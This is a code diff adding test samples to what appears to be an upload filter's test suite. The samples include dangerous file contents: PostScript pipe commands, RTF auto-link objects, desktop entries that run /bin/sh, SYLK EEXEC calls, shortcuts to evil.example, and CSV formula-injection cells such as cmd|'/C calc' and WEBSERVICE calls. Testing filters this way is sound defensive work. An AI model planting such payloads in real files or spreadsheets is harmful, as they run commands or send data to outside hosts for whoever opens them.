@@ -39,6 +39,14 @@ ENDINGS = (
     "apk",
     "reg",
 )
+TEXTS = {
+    "postscript": b"%!PS-Adobe-3.0\n(%pipe%id) (w) file",
+    "rich text with an object": b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}",
+    "internet shortcut": b"[InternetShortcut]\r\nURL=http://evil.example\r\n",
+    "desktop entry": b"[Desktop Entry]\nExec=/bin/sh\n",
+    "sylk": b'ID;PWXL;N;E\nC;X1;Y1;EEXEC("calc")\n',
+    "web query": b"WEB\r\n1\r\nhttp://evil.example/x\r\n",
+}
 CELLS = (
     '=cmd|"/C calc"!A0', "=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)",
     "=1+1", '"=1+1"', "'=1+1", "\t=1+1", "＝1+1", "=IMPORTXML(\"http://evil.example\")", "=WEBSERVICE(\"http://evil.example\")",
@@ -59,6 +67,11 @@ def samples() -> Iterator[Sample]:
         yield Sample(f"picture named .{ending}", f"a.jpg.{ending}", picture("jpg"), "refused:runnable")
     for name in ("a.com.txt", "a.txt", "a.csv", "a.json", "a.jpg", "a"):
         yield Sample(f"test pattern as {name}", name, TEST_PATTERN, "refused:virus_test")
+    for label, content in TEXTS.items():
+        for name in ("a.txt", "a.csv", "a.json"):
+            yield Sample(f"{label} as {name}", name, content, "refused:unknown")
+    for count in (40, 500, 2000):
+        yield Sample(f"{count} empty comments", "a.txt", b"<!---->" * count + b"x", "opaque:active")
     for cell in CELLS:
         yield Sample(f"cell {cell}", "a.csv", f"name,price\n鞋,{cell}\n".encode(), "opaque:formula")
     for opening in (b"[", b'{"a":', b"[{", b'[[{"x":['):
